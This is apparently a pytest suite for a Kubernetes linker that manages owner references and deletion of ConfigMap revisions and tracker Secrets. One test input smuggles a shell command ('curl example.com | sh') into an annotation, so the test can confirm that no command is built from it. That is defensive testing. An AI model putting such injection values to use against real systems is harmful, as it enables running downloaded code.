"""Which objects become owners of a revision, and which revisions are deleted."""

import json

import pytest

from krm_fn.base import keys
from krm_fn.base.kind import CONSUMER_KINDS, Kind
from krm_fn.base.link_plan import LinkPlan, RevisionName
from krm_fn.base.producer import RENAMABLE
from krm_fn.linker.objects import (
    Consumer,
    Inventory,
    LiveRevision,
    Observation,
    Owner,
    Unread,
)
from krm_fn.linker.owners import (
    RevisionPatch,
    is_left_to_kpt,
    plan_deletions,
    plan_leaks,
    plan_owners,
)

NAME = "web-config-bbbbbbbbbb"
API_VERSIONS = {
    "Widget": "example.com/v1",
    "CronWorkflow": "argoproj.io/v1alpha1",
    "ConfigMap": "v1",
    "Job": "batch/v1",
    "Pod": "v1",
}
WIDGET = Kind("example.com/v1", "Widget", "widgets")
NIGHTLY = Kind("argoproj.io/v1alpha1", "CronWorkflow", "cronworkflows")
BY_WORKFLOWS = ("argoproj.io", "CronWorkflow"), ("argoproj.io", "Workflow")


def planned(*rendered: str, kinds: tuple[Kind, ...] = ()) -> LinkPlan:
    names = tuple(RevisionName("ConfigMap", name) for name in rendered)
    return LinkPlan(set="web", revisions=names, kinds=kinds, timeout=300, minimum_age=600)


def owner(text: str) -> Owner:
    """Read `ReplicaSet/web-1`; the uid is the whole text."""
    kind, _, name = text.partition("/")
    return Owner(API_VERSIONS.get(kind, "apps/v1"), kind, name, text)


def revision(*owners: str, is_wanted: bool = True, created: float = 0.0) -> LiveRevision:
    return LiveRevision(NAME, "u1", "1", created, tuple(map(owner, owners)), is_wanted=is_wanted)


def current(text: str, *names: str, is_being_deleted: bool = False) -> Consumer:
    """Build a consumer that says what is wanted now, such as a Deployment."""
    return Consumer(
        owner(text), is_current=True, references=frozenset(names), is_being_deleted=is_being_deleted
    )


def past(text: str, *names: str, is_being_deleted: bool = False, can_own: bool = True) -> Consumer:
    """Build a consumer that was created from a template, such as a ReplicaSet."""
    return Consumer(
        owner(text),
        is_current=False,
        references=frozenset(names),
        is_being_deleted=is_being_deleted,
        can_own=can_own,
    )


INVENTORY = "ConfigMap/web-linker"


def observed(
    live: LiveRevision,
    *consumers: Consumer,
    listed: tuple[str, ...] = (),
    has_inventory: bool = True,
) -> Observation:
    """Build an observation at 1,000 seconds."""
    inventory = Inventory(owner(INVENTORY), frozenset(listed)) if has_inventory else None
    return Observation([live], inventory, [*consumers], now=1000.0)


def with_kinds(
    seen: Observation, *kinds: tuple[str, str], told: tuple[tuple[str, str], ...] = ()
) -> Observation:
    """Let an observation have seen these kinds, and the configuration name those that are told."""
    assert seen.inventory
    return seen._replace(
        seen=frozenset(kinds), inventory=seen.inventory._replace(told_kinds=frozenset(told))
    )


def marked(*kinds: str) -> LiveRevision:
    return OLD._replace(rendered_kinds=frozenset(kinds[:1]), seen_kinds=frozenset(kinds[1:]))


def changes(patches: list[RevisionPatch]) -> list[str]:
    """Write a patch as `+ ReplicaSet/web-1, - Deployment/web, wanted: true`."""
    return [
        ", ".join(
            [
                *(f"+ {one}" for one in patch.add),
                *(f"- {one}" for one in patch.remove),
                *(f"{key.removeprefix(keys.PREFIX)}: {value}" for key, value in patch.annotations),
            ]
        )
        for patch in patches
    ]


WEB = current("Deployment/web", NAME)
MOVED_ON = current("Deployment/web")

LEFT_ALONE = [
    pytest.param(
        observed(revision(INVENTORY)), id="an unreferenced revision that the inventory owns"
    ),
    pytest.param(
        observed(revision(INVENTORY, "Deployment/web"), MOVED_ON),
        id="a workload that has moved on stays an owner",
    ),
    pytest.param(
        observed(revision(INVENTORY, "Widget/x"), listed=(NAME,)),
        id="an owner that somebody else has set",
    ),
    pytest.param(
        observed(revision(INVENTORY, "ReplicaSet/gone")),
        id="an owner that is gone, which the garbage collector removes",
    ),
    pytest.param(
        observed(revision(INVENTORY), past("ReplicaSet/web-1", NAME, is_being_deleted=True)),
        id="a consumer that is being deleted is not added",
    ),
    pytest.param(
        observed(revision(INVENTORY), past("Pod/web-1-a", NAME, can_own=False)),
        id="a pod that its controller deletes is not added",
    ),
    pytest.param(
        observed(revision(), WEB, has_inventory=False),
        id="a revision without owners and without an inventory: nothing collects it",
    ),
    pytest.param(
        observed(revision()._replace(set_name="former"), WEB),
        id="a revision of a former set without owners: its set may get its name back",
    ),
    pytest.param(
        observed(revision()._replace(is_retained=True), WEB),
        id="a retained revision that is referenced",
    ),
    pytest.param(
        observed(revision("Widget/x")._replace(is_retained=True), WEB),
        id="a retained revision with an owner that somebody else has set",
    ),
    pytest.param(
        observed(revision(INVENTORY, is_wanted=False)),
        id="an unreferenced revision without the annotation",
    ),
]

PATCHED = [
    pytest.param(
        observed(revision()),
        f"+ {INVENTORY}",
        id="the inventory owns every revision, rendered or not",
    ),
    pytest.param(
        observed(
            revision(INVENTORY), WEB, past("ReplicaSet/web-2", NAME), past("ReplicaSet/web-1", NAME)
        ),
        "+ Deployment/web, + ReplicaSet/web-1, + ReplicaSet/web-2",
        id="every consumer becomes an owner, not only the newest",
    ),
    pytest.param(
        observed(revision("Deployment/web", INVENTORY), MOVED_ON, past("ReplicaSet/web-1", NAME)),
        "+ ReplicaSet/web-1",
        id="a workload that has moved on keeps its place when its ReplicaSet is added",
    ),
    pytest.param(
        observed(revision("ConfigMap/web-linker-of-before"), listed=(NAME,)),
        f"+ {INVENTORY}",
        id="an inventory that has been created again",
    ),
    pytest.param(
        observed(
            revision("Deployment/web"), WEB, past("ReplicaSet/web-1", NAME), has_inventory=False
        ),
        "+ ReplicaSet/web-1",
        id="a revision that has owners gets more although there is no inventory",
    ),
    pytest.param(
        observed(revision("Deployment/web")._replace(set_name="former"), WEB),
        f"+ {INVENTORY}",
        id="a revision of a former set that has owners gets the inventory, too",
    ),
    pytest.param(
        observed(revision(INVENTORY, "Deployment/web", is_wanted=False), WEB),
        "wanted: true",
        id="a referenced revision gets the annotation back",
    ),
    pytest.param(
        observed(revision(INVENTORY, is_wanted=False), listed=(NAME,)),
        "wanted: true",
        id="a revision that the inventory lists gets the annotation back",
    ),
    pytest.param(
        observed(revision(is_wanted=False), WEB),
        f"+ Deployment/web, + {INVENTORY}, wanted: true",
        id="owners and annotation in one patch",
    ),
    pytest.param(
        observed(
            revision("Deployment/web", "Widget/x", INVENTORY, "ReplicaSet/gone")._replace(
                is_retained=True
            ),
            WEB,
        ),
        f"- Deployment/web, - ReplicaSet/gone, - {INVENTORY}",
        id="a retained revision loses the owners that a linker has added",
    ),
]


@pytest.mark.parametrize("seen", LEFT_ALONE)
def test_these_revisions_are_left_alone(seen: Observation) -> None:
    assert changes(plan_owners(planned(), seen)) == []


@pytest.mark.parametrize(("seen", "expected"), PATCHED)
def test_these_revisions_are_patched(seen: Observation, expected: str) -> None:
    assert changes(plan_owners(planned(), seen)) == [expected]


@pytest.mark.parametrize(("seen", "expected"), PATCHED)
def test_a_patched_revision_needs_no_other_patch(seen: Observation, expected: str) -> None:
    (patch,) = plan_owners(planned(), seen)
    assert changes(plan_owners(planned(), seen._replace(revisions=[patch.result]))) == [], expected


def test_a_revision_of_the_runs_own_rendering_is_wanted() -> None:
    seen = observed(revision(INVENTORY, is_wanted=False))
    assert changes(plan_owners(planned(NAME), seen)) == ["wanted: true"]


def test_a_patch_is_a_strategic_merge_patch_with_the_uid_as_precondition() -> None:
    web, gone = owner("ReplicaSet/web-1"), owner("Deployment/web")
    patch = RevisionPatch(revision(), (web,), (gone,), ((keys.WANTED, None),))
    body = """{
      "metadata": {
        "uid": "u1",
        "annotations": {"revisions.krm-fn.io/wanted": null},
        "ownerReferences": [
          {"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "web-1", "uid": "ReplicaSet/web-1"},
          {"$patch": "delete", "uid": "Deployment/web"}
        ]
      }
    }"""
    assert patch.body == json.loads(body)


def test_a_patch_of_an_annotation_leaves_owners_out() -> None:
    patch = RevisionPatch(revision(), annotations=((keys.WANTED, "true"),))
    assert patch.body == {"metadata": {"uid": "u1", "annotations": {keys.WANTED: "true"}}}


OLD = revision(INVENTORY, "Deployment/web", "ReplicaSet/gone")


@pytest.mark.parametrize(
    ("plan", "seen"),
    [
        pytest.param(planned(), observed(OLD, WEB), id="a referenced revision"),
        pytest.param(
            planned(),
            observed(OLD, past("Pod/a", NAME, can_own=False)),
            id="one that a pod references",
        ),
        pytest.param(
            planned(), observed(OLD, listed=(NAME,)), id="a revision that the inventory lists"
        ),
        pytest.param(planned(NAME), observed(OLD), id="a revision of the run's own rendering"),
        pytest.param(planned(), observed(OLD, has_inventory=False), id="without an inventory"),
        pytest.param(
            planned(),
            observed(OLD)._replace(
                unread=(Unread(CONSUMER_KINDS[0], "not permitted to list", is_served=True),)
            ),
            id="while a kind of consumers cannot be read",
        ),
        pytest.param(
            planned(),
            observed(revision("Widget/x")),
            id="an owner of a kind that the linker does not read",
        ),
        pytest.param(
            planned(kinds=(WIDGET,)),
            with_kinds(observed(revision("Widget/x")), ("example.com", "Widget")),
            id="an owner of a kind of which nobody knows what is made",
        ),
        pytest.param(
            planned(kinds=(NIGHTLY,)),
            with_kinds(observed(revision("CronWorkflow/x")), ("argoproj.io", "CronWorkflow")),
            id="an owner of a kind of which another one is made that the run has not seen",
        ),
        pytest.param(
            planned(),
            with_kinds(observed(marked("networking.k8s.io/v1/Ingress"))),
            id="a rendering in which a kind referenced it that the run has not seen",
        ),
        pytest.param(
            planned(),
            with_kinds(observed(marked("", "argoproj.io/v1alpha1/Workflow"))),
            id="an earlier run saw an object of such a kind",
        ),
        pytest.param(
            planned(),
            with_kinds(observed(marked("example.com/v1/Widget")), ("example.com", "Widget")),
            id="a rendering in which a kind referenced it of which nobody knows what is made",
        ),
        pytest.param(
            planned(),
            with_kinds(
                observed(marked("*/v1/Widget")), ("*", "Widget"), told=(("example.com", "Widget"),)
            ),
            id="a mark that is no kind",
        ),
        pytest.param(
            planned(), observed(revision("ConfigMap/other")), id="another ConfigMap as owner"
        ),
        pytest.param(planned(), observed(OLD._replace(is_retained=True)), id="a retained revision"),
        pytest.param(
            planned(), observed(revision(created=400.0)), id="a revision created at that time"
        ),
        pytest.param(planned(), observed(revision(created=401.0)), id="a younger revision"),
        pytest.param(
            planned(),
            observed(OLD._replace(is_tracker=True)),
            id="a tracker that is no owner of its Secret",
        ),
    ],
)
def test_these_revisions_are_not_deleted(plan: LinkPlan, seen: Observation) -> None:
    assert plan_deletions(plan, seen) == []


@pytest.mark.parametrize(
    ("plan", "seen"),
    [
        pytest.param(planned(), observed(OLD, MOVED_ON), id="with owners that linkers have added"),
        pytest.param(planned(), observed(revision(created=399.0)), id="without owners"),
        pytest.param(
            planned(),
            observed(OLD._replace(is_wanted=False), MOVED_ON),
            id="without the annotation, after a kill",
        ),
        pytest.param(
            planned(),
            observed(OLD._replace(is_tracker=True, owns_secret=True)),
            id="a tracker that owns its Secret",
        ),
        pytest.param(
            planned(kinds=(WIDGET,)),
            with_kinds(
                observed(revision("Widget/x")),
                ("example.com", "Widget"),
                told=(("example.com", "Widget"),),
            ),
            id="an owner of a kind of which the configuration names all that is made",
        ),
        pytest.param(
            planned(kinds=(NIGHTLY,)),
            with_kinds(observed(revision("CronWorkflow/x")), *BY_WORKFLOWS),
            id="an owner of a kind, and the run has seen what is made of it",
        ),
        pytest.param(
            planned(),
            with_kinds(
                observed(
                    marked("argoproj.io/v1alpha1/CronWorkflow", "argoproj.io/v1alpha1/Workflow")
                ),
                *BY_WORKFLOWS,
            ),
            id="an earlier rendering had that kind, and the run has seen none of its objects",
        ),
    ],
)
def test_an_old_unreferenced_revision_is_deleted(plan: LinkPlan, seen: Observation) -> None:
    assert plan_deletions(plan, seen) == seen.revisions


def test_an_unreferenced_tracker_that_does_not_own_its_secret_leaks() -> None:
    tracker = OLD._replace(is_tracker=True)
    assert leaking(tracker) == [f"secret/{tracker.name}", f"configmap/{tracker.name}"]
    assert leaking(tracker._replace(owns_secret=True)) == []
    assert leaking(OLD) == []
    assert plan_leaks(planned(), observed(tracker, WEB)) == []
    unread = Unread(CONSUMER_KINDS[0], "not permitted", is_served=True)
    assert plan_leaks(planned(), observed(tracker)._replace(unread=(unread,))) == []
    assert plan_leaks(planned(), observed(tracker)._replace(inventory=None)) == []


def leaking(*trackers: LiveRevision) -> list[str]:
    observation = observed(OLD)._replace(revisions=[*trackers])
    return [name for leak in plan_leaks(planned(), observation) for name in leak.objects]


@pytest.mark.parametrize(("group", "kind"), RENAMABLE)
def test_what_makes_a_leaking_secret_is_deleted_before_its_tracker(group: str, kind: str) -> None:
    """Else it would make the Secret anew, and nothing would know of that."""
    tracker = OLD._replace(is_tracker=True, made_by=f"{kind}/from-vault-gggggggggg")
    expected = [f"{kind.lower()}.{group}/from-vault-gggggggggg", f"configmap/{tracker.name}"]
    assert leaking(tracker) == expected
    itself = tracker._replace(stands_for=kind)
    assert leaking(itself) == expected


def test_what_makes_several_secrets_stays_while_one_of_them_is_needed() -> None:
    db = OLD._replace(
        name="db-gggggggggg", uid="db", is_tracker=True, made_by="SopsSecret/both-gggggggggg"
    )
    api = db._replace(name="api-gggggggggg", uid="api")
    names = ["configmap/db-gggggggggg", "configmap/api-gggggggggg"]
    assert leaking(db, api) == ["sopssecret.isindir.github.com/both-gggggggggg", *names]
    assert leaking(db, api._replace(is_retained=True)) == []
    assert leaking(db, api._replace(owns_secret=True)) == [], "it goes with the next run"


@pytest.mark.parametrize(
    "annotations",
    [
        pytest.param(
            {"made_by": "ExternalSecret/a; curl example.com | sh"},
            id="a name that a shell would run",
        ),
        pytest.param({"made_by": "ExternalSecret/--all"}, id="a name that is an option"),
        pytest.param({"made_by": "ExternalSecret"}, id="no name"),
        pytest.param({"made_by": "Namespace/shop"}, id="a kind that makes no Secret"),
        pytest.param({"made_by": "/shop"}, id="no kind"),
        pytest.param({"stands_for": "Namespace"}, id="it stands for a kind that makes no Secret"),
    ],
)
def test_no_command_holds_what_nobody_has_rendered(annotations: dict[str, str]) -> None:
    assert leaking(OLD._replace(is_tracker=True, **annotations)) == []  # type: ignore[arg-type]  # all are texts


KPTS = revision()._replace(is_in_kpt_inventory=True)


@pytest.mark.parametrize(
    ("seen", "is_left"),
    [
        pytest.param(observed(KPTS), True, id="superseded, and still in kpt's inventory"),
        pytest.param(observed(KPTS, listed=(NAME,)), False, id="rendered now"),
        pytest.param(observed(revision()), False, id="kpt has let go of it, or was never there"),
        pytest.param(
            observed(KPTS, has_inventory=False),
            False,
            id="rendered by this run, without an inventory",
        ),
    ],
)
def test_a_superseded_revision_is_left_to_kpt(seen: Observation, *, is_left: bool) -> None:
    (live,) = seen.revisions
    assert is_left_to_kpt(planned(NAME), seen, live) is is_left
